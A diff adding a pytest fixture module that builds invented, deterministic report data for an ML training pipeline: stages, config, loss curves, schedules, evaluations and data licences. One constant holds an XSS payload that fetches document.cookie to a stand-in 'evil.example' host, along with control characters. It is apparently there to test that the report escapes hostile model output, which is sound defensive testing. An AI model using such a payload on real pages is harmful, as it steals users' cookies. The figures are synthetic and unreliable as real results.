@@ -1,0 +1,293 @@
+"""Facts as a demo run would leave them: invented, but shaped like the real thing, and the same every time."""
+
+import math
+import random
+
+import pytest
+
+from headrace.reporting.facts import (
+    Agreement,
+    Amount,
+    Baseline,
+    BitsPerByte,
+    Data,
+    Difference,
+    Estimate,
+    Evaluation,
+    ExpertLoad,
+    Publication,
+    ReportFacts,
+    Sample,
+    Schedule,
+    Source,
+    Split,
+    Stage,
+    Task,
+    Training,
+)
+
+STEPS, TOKENS_PER_STEP = 1464, 2048
+HOSTILE = "<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\x00\x1b[31m"
+
+
+@pytest.fixture(scope="session")
+def demo_facts() -> ReportFacts:
+    """Everything present."""
+    return ReportFacts(
+        title="nano on the environment corpus",
+        command='snakemake --cores 2 --config experiment=demo set="recipe.learning_rate.peak=2e-3"',
+        results_folder="/home/ada/headrace/results",
+        report_path="/home/ada/headrace/results/report/5c8e0d9b7a61/artifact/report.html",
+        finished="2026-11-24 14:02 UTC",
+        stages=_stages(),
+        config=_config(),
+        differences=(
+            Difference("recipe.learning_rate.peak", 0.003, 0.002),
+            Difference("train.from", None, "0f3b6a1c9d2e@1400"),
+            Difference("evaluate.tasks", ["humaneval_likelihood", "reasoning_gym"], ["humaneval_likelihood"]),
+        ),
+        data=_data(),
+        training=_training(),
+        evaluation=_evaluation(),
+        publication=Publication(
+            None,
+            None,
+            "pretrain-7d41c02e93ab",
+            "/home/ada/headrace/results/publish/e1f7a24c8b90/artifact/repository",
+            "BF16 safetensors in 1 shard",
+            9,
+            15_482_336,
+        ),
+        versions={
+            "headrace": "0.1.0",
+            "python": "3.11.7",
+            "torch": "2.13.0+cpu",
+            "transformers": "5.23.0",
+            "snakemake": "9.27.1",
+        },
+        machine={"processor": "AMD EPYC 7R13, 2 cores", "memory": "7.6 GiB", "operating system": "Linux 6.1"},
+        code={"commit": "3f9d0f1c22a7be0d4fb2f70b1a4b6f5d6e9c8a10", "work tree": "clean"},
+    )
+
+
+def _hex(name: str, length: int) -> str:
+    return "".join(random.Random(name).choices("0123456789abcdef", k=length))
+
+
+def _stages() -> tuple[Stage, ...]:
+    table = (
+        ("corpus", (), 9.4, "5,214 documents, 41.2 MB of text"),
+        ("tokenizer", ("corpus",), 6.2, "4,096 entries, 3,834 merges"),
+        ("tokenize", ("corpus", "tokenizer"), 4.1, "11.9 M tokens in 8 shards"),
+        ("pretrain", ("tokenize",), 291.0, "7.71 M parameters, 3.00 M tokens"),
+        ("convert", ("tokenizer", "pretrain"), 1.3, "BF16 safetensors, 15.5 MB"),
+        ("evaluate", ("corpus", "tokenize", "pretrain", "convert"), 74.0, "4 kinds of text, 2 tasks, 6 samples"),
+        ("publish", ("convert", "evaluate"), 0.7, "9 files in a local folder"),
+        (
+            "report",
+            ("corpus", "tokenizer", "tokenize", "pretrain", "convert", "evaluate", "publish"),
+            None,
+            "this page",
+        ),
+    )
+    return tuple(
+        Stage(
+            name,
+            _hex(name, 12),
+            parents,
+            seconds,
+            made,
+            None if name == "report" else _hex(name + "m", 64),
+            {p: _hex(p + "m", 64) for p in parents},
+            f"/home/ada/headrace/results/{name}/{_hex(name, 12)}/artifact",
+        )
+        for name, parents, seconds, made in table
+    )
+
+
+def _config() -> dict[str, object]:
+    return {
+        "seed": {"init": 1, "data": 1},
+        "model": {
+            "hidden_size": 256,
+            "num_hidden_layers": 4,
+            "n_routed_experts": 16,
+            "rope_scaling": None,
+            "initializer_range": "auto",
+        },
+        "recipe": {
+            "tokens": 3_000_000,
+            "learning_rate": {"peak": 0.002, "warmup_steps": 50, "cosine": "40%", "tail": []},
+        },
+        "evaluate": {"tasks": ["humaneval_likelihood"], "items": 200},
+        "publish": {"repo_id": None, "title": "Ein Mühlrad – 水車"},
+    }
+
+
+def _training() -> Training:
+    noise = random.Random(7)
+    steps = range(0, STEPS, 2)
+    loss = [
+        (s * TOKENS_PER_STEP, 4.42 + 3.9 * math.exp(-s / 170) - 0.25 * s / STEPS + noise.gauss(0, 0.09)) for s in steps
+    ]
+    mtp = [(x, y * 0.98 + 0.62 * (1 - math.exp(-x / 4e5)) + noise.gauss(0, 0.04)) for x, y in loss]
+    validation = [
+        (s * TOKENS_PER_STEP, 4.45 + 3.9 * math.exp(-s / 170) - 0.24 * s / STEPS) for s in range(60, STEPS, 100)
+    ]
+    gradient = [
+        (x, 0.5 + 4 * math.exp(-x / 9e4) + abs(noise.gauss(0, 0.12)) + (6.0 if x == 1_499_136 else 0)) for x, _ in loss
+    ]
+    speed = [(x, 10_300 + noise.gauss(0, 220) - (3800 if x < 5000 else 0)) for x, _ in loss]
+    return Training(
+        parameters=7_712_064,
+        parameters_activated=3_104_256,
+        parameters_mtp=912_384,
+        tokens=STEPS * TOKENS_PER_STEP,
+        steps=STEPS,
+        seconds=291.0,
+        tokens_per_second=10_303.2,
+        mfu=0.413,
+        gemm_peak_flops=187.4e9,
+        loss_train=4.162,
+        loss_validation=4.217,
+        skipped_steps=0,
+        curves={
+            "train": tuple(loss),
+            "validation": tuple(validation),
+            "mtp": tuple(mtp),
+            "gradient_norm": tuple(gradient),
+            "tokens_per_second": tuple(speed),
+            "mfu": tuple((x, y * 4.01e-5) for x, y in speed),
+        },
+        schedules=_schedules(),
+        expert_load=_load(),
+    )
+
+
+def _schedules() -> tuple[Schedule, ...]:
+    def rate(step: int) -> float:
+        if step < 50:
+            return 0.002 * (step + 1) / 50
+        if step < 0.6 * STEPS:
+            return 0.002
+        return 1e-4 + 0.5 * (0.002 - 1e-4) * (1 + math.cos(math.pi * (step / STEPS - 0.6) / 0.4))
+
+    def points(value: object) -> tuple[tuple[float, float], ...]:
+        return tuple((s * TOKENS_PER_STEP, value(s)) for s in range(0, STEPS, 8))  # type: ignore[operator]
+
+    return (
+        Schedule("learning rate", points(rate)),
+        Schedule("MTP weight (lambda)", points(lambda s: 0.3 if s < 0.68 * STEPS else 0.1)),
+        Schedule("sequences per step", points(lambda s: 8.0)),
+        Schedule("bias update speed (gamma)", points(lambda s: 0.001 if s < 0.97 * STEPS else 0.0)),
+    )
+
+
+def _load() -> ExpertLoad:
+    noise = random.Random(11)
+    moments = tuple(float(s * TOKENS_PER_STEP) for s in range(0, STEPS, 12))
+    layers = {}
+    for layer in (1, 2, 3, 4):
+        taste = [noise.gauss(0, 0.9) for _ in range(16)]
+        rows = []
+        for i in range(len(moments)):
+            skew = 0.12 + math.exp(-i / 14)
+            raw = [math.exp(skew * taste[e] + noise.gauss(0, 0.07)) for e in range(16)]
+            rows.append(tuple(value / sum(raw) for value in raw))
+        layers["layer 4 (MTP)" if layer == 4 else f"layer {layer}"] = tuple(rows)
+    worst = [max(max(rows[i]) * 16 - 1 for rows in layers.values()) for i in range(len(moments))]
+    return ExpertLoad(moments, layers, tuple(zip(moments, worst, strict=True)))
+
+
+def _evaluation() -> Evaluation:
+    def score(kind: str, documents: int, size: int, value: float, spread: float, *others: float) -> BitsPerByte:
+        names = ("unigram", "bigram", "trigram", "xz -9")
+        baselines = {
+            name: Baseline(other, _paired(name, value - other)) for name, other in zip(names, others, strict=True)
+        }
+        return BitsPerByte(kind, documents, size, Estimate(value, value - spread, value + spread * 1.07), baselines)
+
+    def _paired(name: str, gap: float) -> Estimate | None:
+        """xz compresses in one piece and has no value per document."""
+        return None if name == "xz -9" else Estimate(gap, gap - 0.04, gap + 0.042)
+
+    return Evaluation(
+        bits_per_byte=(
+            score("all", 212, 1_402_331, 2.104, 0.048, 3.611, 2.398, 2.141, 1.953),
+            score("code", 148, 1_011_480, 1.987, 0.055, 3.702, 2.322, 2.031, 1.842),
+            score("documentation", 51, 322_904, 2.377, 0.088, 3.355, 2.571, 2.399, 2.207),
+            score("data", 13, 67_947, 2.541, 0.214, 3.490, 2.702, 2.688, 2.305),
+        ),
+        tasks=(
+            Task(
+                "humaneval_likelihood",
+                "bits per byte",
+                False,
+                164,
+                0,
+                Estimate(2.611, 2.542, 2.683),
+                None,
+                "canonical solutions of HumanEval",
+            ),
+            Task(
+                "leg_counting",
+                "accuracy",
+                True,
+                200,
+                0,
+                Estimate(0.265, 0.209, 0.330),
+                0.25,
+                "arithmetic over a list of animals",
+            ),
+            Task(
+                "letter_choice",
+                "accuracy",
+                True,
+                200,
+                0,
+                Estimate(0.310, 0.250, 0.377),
+                0.25,
+                "picking one of four answers",
+            ),
+        ),
+        agreement=(
+            Agreement("in memory / reloaded checkpoint", 65_536, 0.0, 0.0, True, 1e-6, 0, True),
+            Agreement("reloaded, rounded to bf16, FP32 / exported, FP32", 65_536, 3.1e-7, 2.4e-5, False, 1e-4, 2, True),
+            Agreement("in memory (bf16) / exported, FP32", 65_536, 0.00312, 0.0214, False, None, 0, True),
+        ),
+        samples=(
+            Sample(
+                "def read_config(path):\n    ",
+                "with open(path) as file:\n        return json.load(file)\n\ndef main(self):\n    # Return the",
+                "greedy",
+                "stdlib/configparser.py",
+            ),
+            Sample(
+                "The purpose of this module is to ",
+                f"make the {HOSTILE} of the name",
+                "temperature 0.8",
+                "packages/attrs/README.md",
+            ),
+        ),
+    )
+
+
+def _data() -> Data:
+    table = (("code", 3622, 29_800_000), ("docs", 1290, 9_700_000), ("text", 302, 1_700_000))
+    splits = []
+    for name, share in (("train", 0.92), ("validation", 0.04), ("held-out", 0.04)):
+        kinds = tuple(Amount(kind, round(documents * share), round(size * share)) for kind, documents, size in table)
+        size = sum(kind.text_bytes for kind in kinds)
+        splits.append(Split(name, sum(kind.documents for kind in kinds), size, round(size / 3.45), kinds))
+    licences = ("PSF-2.0", "BSD-3-Clause", "MIT", "Apache-2.0")
+    names = ("Python standard library 3.11.7", "numpy 2.4.6", "sympy 1.14", "scipy 1.17", "networkx 3.6", "pandas 3.0")
+    return Data(
+        splits=tuple(splits),
+        drops={"exact duplicate": 412, "longer than max_document_bytes": 12, "not UTF-8": 3},
+        sources=tuple(
+            Source(name, licences[i % 4], 900 - 80 * i, 9_000_000 - 850_000 * i) for i, name in enumerate(names)
+        ),
+        refused={"certifi": "MPL-2.0 is not in corpus.licences", "mystery": "declares no licence"},
+        vocabulary=4096,
+        tokenizer_engine="fastokens 0.3.5",
+    )
